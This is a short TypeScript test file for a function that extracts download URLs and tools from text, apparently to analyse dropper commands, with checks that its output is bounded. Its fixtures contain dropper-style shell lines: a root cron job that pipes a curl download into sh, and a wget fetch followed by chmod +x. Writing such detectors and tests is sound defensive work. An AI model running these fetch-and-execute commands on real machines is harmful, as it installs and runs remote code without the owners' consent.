import assert from 'node:assert/strict'
import { test } from 'node:test'
import { downloadsIn } from './downloads.ts'

test('finds what a dropper would fetch, and with what', () => {
  assert.deepEqual(downloadsIn('\n\n*/1 * * * * root curl -fsSL http://192.0.2.9/a.sh | sh\n\n'), [
    { url: 'http://192.0.2.9/a.sh', tool: 'curl' },
  ])
  assert.deepEqual(downloadsIn('cd /tmp; wget "ftp://198.51.100.4:21/x86";chmod +x x86'), [
    { url: 'ftp://198.51.100.4:21/x86', tool: 'wget' },
  ])
  assert.deepEqual(downloadsIn('see https://www.example.com/page.'), [
    { url: 'https://www.example.com/page', tool: 'url' },
  ])
  assert.deepEqual(downloadsIn('http:// nothing'), [])
})

test('is bounded in number and time', () => {
  assert.equal(downloadsIn('http://192.0.2.1/a '.repeat(1000)).length, 1)
  assert.equal(downloadsIn(Array.from({ length: 1000 }, (_, i) => `http://192.0.2.1/${i}`).join(' ')).length, 32)
  downloadsIn('http://'.repeat(100_000))
  downloadsIn('wget '.repeat(100_000))
})
